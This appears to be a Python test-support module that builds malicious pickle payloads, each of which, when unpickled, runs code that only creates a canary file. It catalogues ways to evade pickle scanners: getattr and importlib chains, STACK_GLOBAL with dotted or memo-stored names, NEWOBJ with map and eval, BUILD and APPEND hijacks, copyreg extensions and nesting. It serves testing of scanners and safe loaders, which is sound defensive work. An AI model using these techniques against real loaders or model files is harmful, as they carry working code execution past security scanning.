"""Pickles that run code when Python's own machine reads them: each makes one file, the canary.

Each function gives the opcodes that push one value, so that a test can put them anywhere in a pickle. The
tricks are those of public advisories and of scanners' bypasses.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

Payload = Callable[[Path], bytes]


def text(value: str) -> bytes:
    """A string."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def values(*parts: bytes) -> bytes:
    """A tuple."""
    return b"(" + b"".join(parts) + b"t"


def items(*parts: bytes) -> bytes:
    """A list."""
    return b"](" + b"".join(parts) + b"e"


def name(module: str, attribute: str) -> bytes:
    """GLOBAL: what an import gives."""
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE: the value of a call."""
    return function + values(*arguments) + b"R"


def shell(canary: Path) -> bytes:
    """A command that makes the canary."""
    return text(f"touch {canary}")


def source(canary: Path) -> bytes:
    """Python source that makes the canary."""
    return text(f"open({str(canary)!r}, 'w').close()")


def new_file(canary: Path) -> bytes:
    """The canary's name, for functions that make the file they are given."""
    return text(str(canary))


def words(canary: Path) -> bytes:
    """A command as a list."""
    return items(text("touch"), text(str(canary)))


ONE_CALL: list[tuple[str, str, list[Any]]] = [
    ("os", "system", [shell]),
    ("posix", "system", [shell]),
    ("subprocess", "check_call", [words]),
    ("subprocess", "getoutput", [shell]),
    ("pty", "spawn", [words]),
    ("builtins", "eval", [source]),
    ("builtins", "exec", [source]),
    ("__builtin__", "eval", [source]),  # Python 2's name, translated by Python 3
    ("builtins", "open", [new_file, text("w")]),
    ("io", "open", [new_file, text("w")]),
    ("codecs", "open", [new_file, text("w")]),
    ("runpy", "_run_code", [source, b"}"]),
    ("timeit", "timeit", [source, text("pass"), name("time", "perf_counter"), b"K\x01"]),
    ("cProfile", "run", [source]),
    ("profile", "run", [source]),
    ("logging", "FileHandler", [new_file]),
    ("sqlite3", "connect", [new_file]),
    ("shutil", "copyfile", [text("/etc/hostname"), new_file]),
    ("zipfile", "ZipFile", [new_file, text("w")]),
    ("dbm.dumb", "open", [new_file, text("c")]),
]
"""Functions that do it alone, with what they are given."""


def _one_call(module: str, attribute: str, arguments: list[Any]) -> Payload:
    def payload(canary: Path) -> bytes:
        given = [argument(canary) if callable(argument) else argument for argument in arguments]
        return call(name(module, attribute), *given)

    payload.__name__ = f"{module}.{attribute}"
    return payload


def os_system(canary: Path) -> bytes:
    """The plainest."""
    return call(name("os", "system"), shell(canary))


def getattr_chain(canary: Path) -> bytes:
    """No dangerous name but builtins'."""
    module = call(name("builtins", "__import__"), text("os"))
    return call(call(name("builtins", "getattr"), module, text("system")), shell(canary))


def importlib_chain(canary: Path) -> bytes:
    """As `getattr_chain`, by importlib."""
    module = call(name("importlib", "import_module"), text("os"))
    return call(call(name("operator", "attrgetter"), text("system")) + values(module) + b"R", shell(canary))


def methodcaller(canary: Path) -> bytes:
    """operator.methodcaller on a module."""
    module = call(name("importlib", "import_module"), text("os"))
    return call(call(name("operator", "methodcaller"), text("system"), shell(canary)), module)


def partial(canary: Path) -> bytes:
    """The call is packed first and made later."""
    return call(call(name("functools", "partial"), name("os", "system"), shell(canary)))


def pickle_in_pickle(canary: Path) -> bytes:
    """The payload is bytes until an inner unpickler reads it."""
    inner = b"\x80\x02" + os_system(canary) + b"."
    return call(name("pickle", "loads"), b"B" + struct.pack("<I", len(inner)) + inner)


def instance_opcode(canary: Path) -> bytes:
    """INST: class and arguments in one opcode, older than REDUCE."""
    return b"(" + shell(canary) + b"ios\nsystem\n"


def object_opcode(canary: Path) -> bytes:
    """OBJ: the class lies on the stack."""
    return b"(" + name("os", "system") + shell(canary) + b"o"


def stack_global(canary: Path) -> bytes:
    """STACK_GLOBAL: module and name are strings from the stack."""
    return b"\x8c\x05posix\x8c\x06system\x93" + values(shell(canary)) + b"R"


def dotted_name(canary: Path) -> bytes:
    """From protocol 4 on a name may have dots: the module is not one of those that blocklists know."""
    return b"\x8c\x07pathlib\x8c\x09os.system\x93" + values(shell(canary)) + b"R"


def names_from_the_memo(canary: Path) -> bytes:
    """A scanner that reads opcodes in order does not see which strings STACK_GLOBAL takes."""
    stored = b"\x8c\x05posixq\x070\x8c\x06systemq\x080"
    return stored + b"h\x07h\x08\x93" + values(shell(canary)) + b"R"


def new_object(canary: Path) -> bytes:
    """NEWOBJ and no REDUCE: `bytes.__new__` uses up a `map` that calls `eval`."""
    sources = items(text(f"open({str(canary)!r}, 'w').close() or 1"))
    mapped = name("builtins", "map") + values(name("builtins", "eval"), sources) + b"\x81"
    return name("builtins", "bytes") + values(mapped) + b"\x81"


def new_object_with_keywords(canary: Path) -> bytes:
    """NEWOBJ_EX: keyword arguments too."""
    sources = items(text(f"open({str(canary)!r}, 'w').close() or 1"))
    mapped = name("builtins", "map") + values(name("builtins", "eval"), sources) + b"}\x92"
    return name("builtins", "bytes") + values(mapped) + b"}\x92"


def build_calls_setstate(canary: Path) -> bytes:
    """BUILD twice: the first puts `__setstate__` into an object, the second has it called."""
    state = b"}(" + text("__setstate__") + name("os", "system") + b"u"
    return name("argparse", "Namespace") + b")R" + state + b"b" + shell(canary) + b"b"


def append_calls_append(canary: Path) -> bytes:
    """APPEND calls the `append` of what lies there: an object whose `append` is `os.system`."""
    state = b"}(" + text("append") + name("os", "system") + b"u"
    return name("argparse", "Namespace") + b")R" + state + b"b" + shell(canary) + b"a"


def copyreg_extension(canary: Path) -> bytes:
    """EXT1: the pickle first registers the code that it then uses."""
    registered = call(name("copyreg", "add_extension"), text("posix"), text("system"), b"K\xf1")
    return registered + b"0\x82\xf1" + values(shell(canary)) + b"R"


def in_a_tuple_in_a_list(canary: Path) -> bytes:
    """Nested, where a look at the top does not see it."""
    return items(values(values(os_system(canary))))


def _dumped(protocol: int) -> Payload:
    """What `pickle` itself writes for a class with __reduce__."""

    class Evil:
        def __init__(self, canary: Path) -> None:
            self.canary = canary

        def __reduce__(self) -> tuple[Any, ...]:
            return exec, (f"open({str(self.canary)!r}, 'w').close()",)

    def payload(canary: Path) -> bytes:
        data = pickle.dumps(Evil(canary), protocol)
        headers = {0: 0, 1: 0, 2: 2, 3: 2, 4: 11, 5: 11}  # PROTO, and FRAME with its length
        return data[headers[protocol] : -1]

    payload.__name__ = f"__reduce__ by protocol {protocol}"
    return payload


PAYLOADS: dict[str, Payload] = {
    payload.__name__: payload
    for payload in [
        *(_one_call(*entry) for entry in ONE_CALL),
        *(_dumped(protocol) for protocol in range(6)),
        getattr_chain,
        importlib_chain,
        methodcaller,
        partial,
        pickle_in_pickle,
        instance_opcode,
        object_opcode,
        stack_global,
        dotted_name,
        names_from_the_memo,
        new_object,
        new_object_with_keywords,
        build_calls_setstate,
        append_calls_append,
        copyreg_extension,
        in_a_tuple_in_a_list,
    ]
}
